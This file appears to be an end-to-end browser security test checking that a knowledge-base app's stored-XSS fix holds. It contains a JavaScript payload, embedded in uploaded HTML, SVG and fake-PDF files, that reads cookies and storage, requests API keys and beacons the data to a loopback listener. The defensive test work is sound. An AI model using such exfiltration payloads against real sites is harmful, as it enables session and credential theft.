"""Issue 12, finding 1 (stored XSS), in a real browser (Debian's Chromium through Playwright) against `kb serve`:
an `eng` key uploads, through the web page, an HTML file whose script tries to list /v1/keys and to send the page's
cookie and storage to a listener of this test, an SVG with the same script, a "PDF" that is really HTML, and a
%PDF polyglot; an admin signed in through the page opens each of them from its citation. The listener hears nothing,
kb never sees /v1/keys asked for, the originals come with their sandboxing headers, the admin's key is nowhere a
script could read it, and the page itself works under its CSP without a single violation.

The positive control: the same HTML served from the listener's own origin does run and report, so silence above
means the scripts never ran, not that the detector is deaf."""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser import WATCH_CSP, chromium
from tests.support import free_port, start_kb_serve, stop_process_group

pytestmark = pytest.mark.e2e

ORIGINAL_CSP = "sandbox; default-src 'none'; frame-ancestors 'none'"
PAYLOAD = """
(async () => {
  const report = {origin: location.origin, href: location.href, cookie: document.cookie};
  try { report.storage = JSON.stringify(localStorage); } catch (e) { report.storage = String(e); }
  try {
    const r = await fetch("/v1/keys", {credentials: "include", headers: {"X-KB-Request": "1"}});
    report.keys = r.status + " " + (await r.text()).slice(0, 300);
  } catch (e) { report.keys = String(e); }
  const body = JSON.stringify(report);
  try { navigator.sendBeacon("http://127.0.0.1:PORT/leak", body); } catch (e) {}
  try { await fetch("http://127.0.0.1:PORT/leak", {method: "POST", mode: "no-cors", body}); } catch (e) {}
  new Image().src = "http://127.0.0.1:PORT/leak?d=" + encodeURIComponent(body);
})();
"""


def hostile_files(port: int) -> dict[str, tuple[str, bytes]]:
    """name -> (content type the browser sends, bytes)."""
    script = PAYLOAD.replace("PORT", str(port))
    html = (f'<!doctype html><html><head><title>Zebra quarterly</title></head><body>'
            f'<p>The zebra quarterly report lists the striped budget for the savanna office.</p>'
            f'<img src="http://127.0.0.1:{port}/img"><script>{script}</script></body></html>').encode()  # fmt: skip
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="5" y="20">zebra</text>'
           f'<image href="http://127.0.0.1:{port}/img"/><script>{script}</script></svg>').encode()  # fmt: skip
    fake_pdf = b"<!-- %PDF-1.7 -->\n" + html
    polyglot = b"%PDF-1.4\n" + html + b"\n%%EOF\n"
    return {
        "zebra-report.html": ("text/html", html),
        "zebra-drawing.svg": ("image/svg+xml", svg),
        "zebra-invoice.pdf": ("application/pdf", fake_pdf),
        "zebra-polyglot.pdf": ("application/pdf", polyglot),
    }


class Listener:
    """A loopback HTTP server that records every request; GET /control serves the hostile HTML from its own
    origin (the positive control)."""

    def __init__(self) -> None:
        self.port = free_port()
        self.hits: list[dict[str, Any]] = []
        self.control_html = b""
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length).decode(errors="replace") if length else ""
                listener.hits.append({"method": self.command, "path": unquote(self.path), "body": body,
                                      "origin": self.headers.get("origin"), "referer": self.headers.get("referer")})

            def do_GET(self) -> None:  # noqa: N802
                self._record()
                if self.path == "/control":
                    self.send_response(200)
                    self.send_header("content-type", "text/html")
                    self.end_headers()
                    self.wfile.write(listener.control_html)
                    return
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:  # noqa: N802
                self._record()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str, Path]]:
    """`kb serve` without the generator (nothing here answers a question): (url, admin key, log path)."""
    data_dir = tmp_path_factory.mktemp("websec")
    env = {k: v for k, v in os.environ.items() if k != "OMP_THREAD_LIMIT"}
    env.update({"KB_DATA_DIR": str(data_dir), "KB_GENERATOR__ENABLED": "false", "KB_LOGGING__FORMAT": "json"})
    log_path = data_dir.parent / "serve-websec.log"
    process, url = start_kb_serve(env, log_path)
    try:
        yield url, (data_dir / "admin.key").read_text().strip(), log_path
    finally:
        stop_process_group(process)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as launched:
        yield launched


def open_page(context: BrowserContext, url: str, problems: list[str]) -> Page:
    """A kb page that records CSP violations and script errors into `problems`."""
    page = context.new_page()
    page.add_init_script(WATCH_CSP)
    page.on("pageerror", lambda error: problems.append(f"pageerror: {error}"))
    page.on("console", lambda message: problems.append(f"console: {message.text}")
            if "Content Security Policy" in message.text or "Refused to" in message.text else None)  # fmt: skip
    page.goto(url)
    return page


def sign_in_through_the_link(page: Page, url: str, key: str) -> None:
    page.goto(f"{url}/#key={key}")
    page.wait_for_selector("#key-box[data-state=signed-in]")
    assert page.evaluate("location.hash") == ""  # the key leaves the address bar and the history


def csp_violations(page: Page) -> list[str]:
    return page.evaluate("window.__cspViolations || []")


def keys_requests_in_log(log_path: Path) -> list[dict[str, Any]]:
    """Access lines of kb serve for GET /v1/keys (this test itself only ever POSTs there)."""
    hits = []
    for line in log_path.read_text(errors="replace").splitlines():
        try:
            entry = json.loads(line)
        except ValueError:
            continue
        if entry.get("event") == "request" and entry.get("path", "").startswith("/v1/keys") and entry.get(
            "method"
        ) == "GET":
            hits.append(entry)
    return hits


def wait_until(condition: Any, what: str, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.1)


def test_a_script_inside_an_uploaded_original_cannot_reach_kb(
    server: tuple[str, str, Path], browser: Browser, listener: Listener
) -> None:
    url, admin_key, log_path = server
    admin = {"Authorization": f"Bearer {admin_key}"}
    eng = {"name": "eng uploader", "scopes": ["search", "ask", "ingest"], "groups": ["eng"]}
    created = httpx.post(f"{url}/v1/keys", headers=admin, json=eng, timeout=30)
    assert created.status_code == 201, created.text
    eng_key = created.json()["key"]
    files = hostile_files(listener.port)
    problems: list[str] = []

    # 1. The eng user signs in through the page and uploads the files through its form.
    eng_context = browser.new_context()
    eng_page = open_page(eng_context, f"{url}/", problems)
    sign_in_through_the_link(eng_page, url, eng_key)
    assert eng_page.inner_text("#key-summary") == "Signed in: eng uploader"
    eng_page.set_input_files("#files", [{"name": n, "mimeType": t, "buffer": b} for n, (t, b) in files.items()])
    eng_page.click("#upload-form button")
    eng_page.wait_for_function("() => document.getElementById('upload-status').textContent.startsWith('Queued')")
    assert eng_page.inner_text("#upload-status").startswith(f"Queued {len(files)} document(s)")
    assert csp_violations(eng_page) == []
    eng_context.close()
    listed = httpx.get(f"{url}/v1/documents", headers=admin, timeout=30).json()["documents"]
    documents = {d["filename"]: d for d in listed if d["filename"] in files}
    assert set(documents) == set(files)
    assert all("eng" in d["groups"] for d in documents.values())

    # 2. An admin opens the page with a key left in localStorage by an earlier version, then signs in by the link.
    context = browser.new_context(accept_downloads=True)
    requests: list[str] = []
    downloads: list[Any] = []
    context.on("request", lambda request: requests.append(request.url))
    context.on("page", lambda new: new.on("download", lambda download: downloads.append(download)))
    page = open_page(context, f"{url}/", problems)
    page.evaluate("localStorage.setItem('kb_api_key', 'kb_left_behind_by_the_old_page')")
    page.reload()
    page.wait_for_selector("#key-box[data-state=signed-out]")
    assert page.evaluate("localStorage.getItem('kb_api_key')") is None  # removed on load
    sign_in_through_the_link(page, url, admin_key)  # the link opened on an open page (hashchange)
    assert page.inner_text("#key-summary") == "Signed in: local admin"
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    assert "kb_session" not in page.evaluate("document.cookie")  # HttpOnly
    assert admin_key not in page.content()
    session_cookie = next(c for c in context.cookies() if c["name"] == "kb_session")
    assert session_cookie["httpOnly"] and session_cookie["sameSite"] == "Strict"
    assert admin_key not in session_cookie["value"]

    # 3. Each original opened from its citation, exactly as an answer's citations are rendered and clicked.
    citations = [
        {"n": n, "document_id": d["document_id"], "filename": d["filename"], "snippet": "zebra",
         "page": 1 if d["filename"].endswith(".pdf") else None}
        for n, d in enumerate(documents.values(), start=1)
    ]  # fmt: skip
    page.evaluate("(citations) => renderCitations(citations)", citations)
    opened: list[Page] = []
    for n in range(1, len(citations) + 1):
        link = page.locator(f"#citations li:nth-child({n}) a")
        href = link.get_attribute("href")
        assert href.startswith("/v1/documents/") and "blob:" not in href
        assert link.get_attribute("target") == "_blank" and "noopener" in link.get_attribute("rel")
        with context.expect_page() as popup:
            link.click()
        opened.append(popup.value)

    # 4. The same originals opened by typing their address (a new tab of the signed-in browser).
    for document in documents.values():
        direct = context.new_page()
        try:
            direct.goto(f"{url}/v1/documents/{document['document_id']}/file")
        except Exception as exc:  # noqa: BLE001 - Playwright reports a navigation that became a download
            assert "Download is starting" in str(exc) or "ERR_ABORTED" in str(exc), exc
        direct.close()

    # 5. The positive control: the same HTML from the listener's own origin runs and reports.
    listener.control_html = files["zebra-report.html"][1]
    control_context = browser.new_context()
    control = control_context.new_page()
    control.goto(f"http://127.0.0.1:{listener.port}/control")
    wait_until(lambda: any(h["path"].startswith("/leak") for h in listener.hits), "the control's report")
    control_context.close()
    time.sleep(1)  # let any straggling report of the originals arrive before judging

    # Nothing ran anywhere but in the control: no report, no image, no /v1/keys, in the browser or at kb.
    leaks = [h for h in listener.hits if not h["path"].startswith("/control")]
    reports = [h for h in leaks if h["path"].startswith("/leak")]
    assert reports and all(f"127.0.0.1:{listener.port}" in (h["body"] + h["path"]) for h in reports), reports
    assert all("kb_" not in h["body"] + h["path"] for h in leaks), leaks  # no key, no session token
    assert not [h for h in leaks if h["origin"] and str(listener.port) not in h["origin"]], leaks
    assert not [r for r in requests if "/v1/keys" in r], requests
    assert keys_requests_in_log(log_path) == []
    assert not [h for h in listener.hits if h["path"] == "/img" and url in (h["referer"] or "")]

    # Every original but the %PDF polyglot became a download; the polyglot goes to the PDF viewer (or a download, in
    # a browser without one): either way no page of kb's origin renders it.
    wait_until(lambda: len(downloads) >= len(files) - 1, "the downloads")
    assert {d.suggested_filename for d in downloads} >= set(files) - {"zebra-polyglot.pdf"}
    for popup in opened:
        if not popup.is_closed():
            assert not popup.url.startswith("blob:")

    # The originals' headers, as the browser's session cookie gets them (the citation links above).
    for document in documents.values():
        original = context.request.get(f"{url}/v1/documents/{document['document_id']}/file")
        assert original.status == 200 and original.body() == files[document["filename"]][1]
        headers = original.headers
        assert headers["content-security-policy"] == ORIGINAL_CSP
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cache-control"] == "private, no-store"
        expected = "inline" if document["filename"] == "zebra-polyglot.pdf" else "attachment"
        assert headers["content-disposition"].startswith(f"{expected}; filename*=UTF-8''")

    # 6. Signing out ends the session: the page says so and an original no longer opens.
    page.click("#sign-out")
    page.wait_for_selector("#key-box[data-state=signed-out]")
    assert [c for c in context.cookies() if c["name"] == "kb_session"] == []
    after = context.new_page()
    response = after.goto(f"{url}/v1/session")
    assert response is not None and response.status == 401
    assert csp_violations(page) == [] and problems == []
    context.close()


def test_the_page_under_its_csp_signs_in_by_paste_and_reports_a_bad_key(
    server: tuple[str, str, Path], browser: Browser
) -> None:
    url, admin_key, _ = server
    problems: list[str] = []
    context = browser.new_context()
    page = open_page(context, f"{url}/", problems)
    page.wait_for_selector("#key-box[data-state=signed-out]")
    assert "Not signed in" in page.inner_text("#key-summary")
    page.fill("#key", "kb_not_a_real_key_at_all_0123456789")
    page.click("#key-form button")
    page.wait_for_function("() => document.getElementById('key-summary').textContent.includes('unknown or revoked')")
    assert page.get_attribute("#key-box", "data-state") == "signed-out"
    page.fill("#key", admin_key)
    page.click("#key-form button")
    page.wait_for_selector("#key-box[data-state=signed-in]")
    assert page.input_value("#key") == ""  # the pasted key does not stay in the form
    page.reload()  # the cookie carries the session across loads; the key is gone
    page.wait_for_selector("#key-box[data-state=signed-in]")
    assert page.evaluate("[localStorage.length, sessionStorage.length]") == [0, 0]
    assert csp_violations(page) == [] and problems == []
    context.close()
